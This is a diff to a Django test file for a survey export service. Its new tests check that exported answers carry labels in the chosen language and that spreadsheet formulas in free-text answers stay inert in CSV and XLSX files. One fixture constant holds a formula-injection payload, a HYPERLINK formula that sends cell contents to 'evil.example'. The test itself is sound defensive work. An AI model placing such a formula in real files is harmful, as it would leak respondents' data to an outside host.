@@ -81,9 +81,14 @@ def answered(survey):
     return web, skipped, paper
 
 
-def request_and_run(survey, requester, format, capture) -> ExportJob:
+def request_and_run(
+    survey, requester, format, capture, values=ExportJob.Values.CODES, **kwargs
+) -> ExportJob:
+    """Codes unless asked otherwise: the tests below read the stable codes."""
     with capture(execute=True):
-        job = services.export_request(survey=survey, format=format, by=requester)
+        job = services.export_request(
+            survey=survey, format=format, by=requester, values=values, **kwargs
+        )
     job.refresh_from_db()
     return job
 
@@ -251,3 +256,95 @@ def test_purging_deletes_earlier_export_files(
 
     assert not path.exists()
     assert not ExportJob.objects.exists()
+
+
+# --- Labels in the survey's language, and nothing that runs -------------------------------
+
+
+def test_by_default_the_answers_go_out_as_the_respondents_saw_them(
+    survey, answered, requester, django_capture_on_commit_callbacks
+):
+    web, skipped, paper = answered
+    single, multiple, yes_no, *_ = survey.questions.counted().in_order()
+
+    with django_capture_on_commit_callbacks(execute=True):
+        job = services.export_request(
+            survey=survey, format=ExportJob.Format.CSV, by=requester, language="sv"
+        )
+    job.refresh_from_db()
+
+    assert job.values == ExportJob.Values.LABELS
+    header, first, second, third = read_csv(job)
+    assert header[:3] == ["enkätsvar", "skickat", "enhet"]
+    assert header[7] == f"Q1 {single.text_sv[:60]}"
+    assert first[3:7] == ["Webb", "Svarade med stödperson", "Någon i familjen eller en vän", "Ja"]
+    assert first[7] == single.options.first().label_sv
+    assert first[9] == "Vet inte"
+    assert int(first[0]) == web.pk
+    assert third[3] == "Papper"
+    assert third[9] == yes_no.options.get(value="no").label_sv == "Nej"
+    assert "dont_know" not in {cell for row in (first, second, third) for cell in row}
+
+
+def test_the_labels_follow_the_chosen_language(
+    survey, answered, requester, django_capture_on_commit_callbacks
+):
+    single = survey.questions.counted().in_order().first()
+
+    job = request_and_run(
+        survey,
+        requester,
+        ExportJob.Format.CSV,
+        django_capture_on_commit_callbacks,
+        values=ExportJob.Values.LABELS,
+        language="nb",
+    )
+
+    header, first, *_ = read_csv(job)
+    assert header[7] == f"Q1 {single.text_nb[:60]}"
+    assert first[7] == single.options.first().label_nb
+    assert first[9] == "Vet ikke"
+
+
+FORMULA = "=1+1"
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+
+
+@pytest.fixture
+def formulas(survey):
+    """Two anonymous respondents write formulas; the number question gets a number."""
+    *_, number, text = survey.questions.counted().in_order()
+    answer_and_submit(survey, {text: FORMULA, number: 7})
+    answer_and_submit(survey, {text: HYPERLINK, number: -3})
+    return number, text
+
+
+@pytest.mark.parametrize("values", ExportJob.Values.values)
+def test_a_formula_in_a_free_text_answer_is_inert_in_the_csv(
+    survey, formulas, requester, django_capture_on_commit_callbacks, values
+):
+    job = request_and_run(
+        survey, requester, ExportJob.Format.CSV, django_capture_on_commit_callbacks, values=values
+    )
+
+    _header, first, second = read_csv(job)
+    assert (first[10], first[11]) == ("7", "'" + FORMULA)
+    assert (second[10], second[11]) == ("-3", "'" + HYPERLINK)
+
+
+@pytest.mark.parametrize("values", ExportJob.Values.values)
+def test_a_formula_in_a_free_text_answer_is_a_text_cell_in_the_xlsx(
+    survey, formulas, requester, django_capture_on_commit_callbacks, values
+):
+    job = request_and_run(
+        survey, requester, ExportJob.Format.XLSX, django_capture_on_commit_callbacks, values=values
+    )
+
+    sheet = load_workbook(job.file.path).worksheets[0]
+    first, second = (list(row) for row in sheet.iter_rows(min_row=2))
+    assert (first[11].value, first[11].data_type) == (FORMULA, "s")
+    assert (second[11].value, second[11].data_type) == (HYPERLINK, "s")
+    # Numbers stay numbers: the response number and the number answer.
+    assert (first[10].value, first[10].data_type) == (7, "n")
+    assert (second[10].value, second[10].data_type) == (-3, "n")
+    assert first[0].data_type == "n"
